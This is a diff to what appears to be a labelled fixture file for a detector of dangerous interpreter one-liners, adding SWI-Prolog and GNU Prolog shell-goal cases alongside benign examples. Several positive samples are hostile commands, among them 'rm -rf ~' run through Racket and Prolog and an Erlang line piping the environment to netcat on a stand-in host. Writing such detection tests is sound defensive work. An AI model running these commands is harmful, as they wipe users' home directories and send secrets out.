@@ -116,3 +116,9 @@ racket -e '(require racket/system) (system "rm -rf ~")'
 erl -noshell -eval 'os:cmd("env | nc h 9"), halt().'
 #@ neg guile printing its version
 guile -c '(display (version)) (newline)'
+#@ pos swipl shell goal
+swipl -g "shell('rm -rf ~')" -t halt
+#@ pos gprolog shell goal
+gprolog --init-goal "shell('id'), halt"
+#@ neg swipl running tests
+swipl -g run_tests -t halt tests.pl
